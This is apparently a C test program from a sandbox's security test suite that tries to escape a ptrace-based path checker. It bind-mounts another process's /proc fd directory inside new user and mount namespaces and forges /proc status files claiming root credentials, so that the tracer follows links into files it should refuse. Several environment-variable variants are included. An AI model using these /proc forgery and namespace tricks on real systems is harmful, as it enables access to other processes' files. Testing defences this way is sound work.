/* proc_bind_parent.c PID FD NAME UID WORK: another process's /proc/PID/fd directory bound
 * where its ".." is a directory the task made (review 56).
 *
 * At a link of a process's fd (or ns, map_files) directory, PathResolver._may_follow reads the
 * process's status -- the credentials it judges the link by -- as "../status" relative to the
 * directory the walk stands in.  The kernel's ".." from the root of a mount is the parent of
 * the mountpoint (follow_dotdot), not the directory's /proc parent: a task that may mount (the
 * root of a user namespace of its own, as nobody is once it unshares one) binds PID's fd
 * directory at WORK/b/fd and writes WORK/b/status, "Tgid: <its own pid>" -- the walk then
 * takes PID for the task's own process and follows the link.  The program drops to UID,
 * enters a new user and mount namespace, binds, writes the status, starts a thread
 * (ESC_THREAD=1: a tree of two tasks, whose calls are handed to the kernel by their canonical
 * spelling) and opens WORK/b/fd/FD/NAME, FD being a descriptor PID holds of its cwd.
 * Natively EACCES (PID's credentials are in another user namespace than the task's, which
 * holds no CAP_SYS_PTRACE there: __ptrace_may_access, cap_ptrace_access_check).  With
 * ESC_NO_STATUS set no status is written: the walk reads none -- and takes the read's ENOENT
 * for a process gone, whose link the kernel's open refuses; the tracer's open does not.
 * With ESC_OVERMOUNT set the forged status is bound over /proc/PID/status itself (a file of
 * /proc is a mountpoint like any other in the task's own mount namespace) and the program
 * opens /proc/PID/cwd/NAME: the process directory's own "status" is then the forgery.
 * With ESC_AS_OWN set (review 53's spoof, one step on) the program mounts a tmpfs over /proc
 * (its /proc moved to WORK/proc first) and binds PID's fd directory at /proc/<its own pid>/fd,
 * the forged status beside it: the walk searches that directory as the task's own
 * (_own_fd_directory, by name: proc_fd_permission) whatever its mode -- a holder that is not
 * dumpable, root's, whose fd directory the task may not search natively.  ESC_CRASH (with
 * ESC_AS_OWN) forges a status the walk takes to a root process of the task's own user
 * namespace (ns/user a symlink the tracer resolves to the task's, uid_map "0 0 1") whose Pid
 * is 2147483648: close 26 asks the kernel about that pid (os.pidfd_open: OverflowError).
 * With ESC_OVER_OWN set (close 28) PID's fd directory is bound over the program's own
 * /proc/<own pid>/fd, in /proc itself, no status written, and it opens
 * /proc/<own pid>/fd/FD/NAME: the tracer's name of the directory is the task's own fd
 * directory, and its ".." the real /proc/<own pid> -- review 53's inode check compared that
 * ".." and took the directory for the task's own. */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>

int main(int argc, char **argv) {
    if (argc < 6) usage("proc_bind_parent PID FD NAME UID WORK");
    uid_t uid = (uid_t)atoi(argv[4]);
    gid_t gid = getgid();
    if (setresuid(uid, uid, uid)) skipped("setresuid: %s", ename(errno));
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);  /* (its /proc/self/uid_map its own to write) */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) skipped("unshare: %s", ename(errno));
    map_own_ids(uid, gid);
    char base[512], fds[600], theirs[64], status[600], text[256];
    snprintf(base, sizeof base, "%s/b%d", argv[5], (int)getpid());
    snprintf(fds, sizeof fds, "%s/fd", base);
    snprintf(theirs, sizeof theirs, "/proc/%s/fd", argv[1]);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) skipped("private: %s", ename(errno));
    if (getenv("ESC_AS_OWN")) {
        char real[600];
        snprintf(real, sizeof real, "%s/proc", base);
        if (mkdir(base, 0755) || mkdir(real, 0755)) skipped("mkdir %s: %s", real, ename(errno));
        if (mount("/proc", real, NULL, MS_BIND | MS_REC, NULL)) skipped("bind: %s", ename(errno));
        if (mount("spoof", "/proc", "tmpfs", 0, NULL)) skipped("tmpfs: %s", ename(errno));
        snprintf(base, sizeof base, "/proc/%d", (int)getpid());
        snprintf(fds, sizeof fds, "%s/fd", base);
        char src[700];
        snprintf(src, sizeof src, "%s/%s/fd", real, argv[1]);
        if (mkdir(base, 0755) || mkdir(fds, 0755)) skipped("mkdir %s: %s", fds, ename(errno));
        if (mount(src, fds, NULL, MS_BIND, NULL)) skipped("bind %s: %s", src, ename(errno));
    } else if (mkdir(base, 0755) || mkdir(fds, 0755)) {
        skipped("mkdir %s: %s", fds, ename(errno));
    }
    if (getenv("ESC_OVER_OWN")) {
        snprintf(fds, sizeof fds, "/proc/%d/fd", (int)getpid());
        if (mount(theirs, fds, NULL, MS_BIND, NULL)) skipped("bind %s: %s", theirs, ename(errno));
    } else if (!getenv("ESC_OVERMOUNT") && !getenv("ESC_AS_OWN")
            && mount(theirs, fds, NULL, MS_BIND, NULL))
        skipped("bind %s: %s", theirs, ename(errno));
    if (!getenv("ESC_NO_STATUS") && !getenv("ESC_OVER_OWN")) {
        snprintf(status, sizeof status, "%s/status", base);
        snprintf(text, sizeof text, "Name:\tx\nTgid:\t%d\nPid:\t%s\nUid:\t0\t0\t0\t0\n"
                 "Gid:\t0\t0\t0\t0\nCapPrm:\t0\n", getenv("ESC_CRASH") ? 1 : (int)getpid(),
                 getenv("ESC_CRASH") ? "2147483648" : "1");
        if (getenv("ESC_CRASH")) {
            char at[700], to[64];
            snprintf(at, sizeof at, "%s/ns", base);
            snprintf(to, sizeof to, "/proc/%d/ns/user", (int)getpid());
            if (mkdir(at, 0755)) skipped("mkdir %s: %s", at, ename(errno));
            snprintf(at, sizeof at, "%s/ns/user", base);
            if (symlink(to, at)) skipped("symlink %s: %s", at, ename(errno));
            snprintf(at, sizeof at, "%s/uid_map", base);
            write_file(at, "0 0 1\n");
            snprintf(at, sizeof at, "%s/gid_map", base);
            write_file(at, "0 0 1\n");
        }
        int err = write_file(status, text);
        if (err < 0) skipped("write %s: %s", status, ename(-err));
        char over[64];
        snprintf(over, sizeof over, "/proc/%s/status", argv[1]);
        if (getenv("ESC_OVERMOUNT") && mount(status, over, NULL, MS_BIND, NULL))
            skipped("bind over %s: %s", over, ename(errno));
    }
    idle_thread_if_asked();
    char path[800];
    if (getenv("ESC_OVERMOUNT")) {
        snprintf(path, sizeof path, "/proc/%s/cwd/%s", argv[1], argv[3]);
        try_open_at(AT_FDCWD, "/proc/PID/cwd/NAME (a status of ours bound over PID's)", path,
                    O_RDONLY);
    } else {
        snprintf(path, sizeof path, "%s/%s/%s", fds, argv[2], argv[3]);
        try_open_at(AT_FDCWD, "WORK/b/fd/FD/NAME (PID's fd bound, a status of ours beside)",
                    path, O_RDONLY);
    }
    tally_done();
}
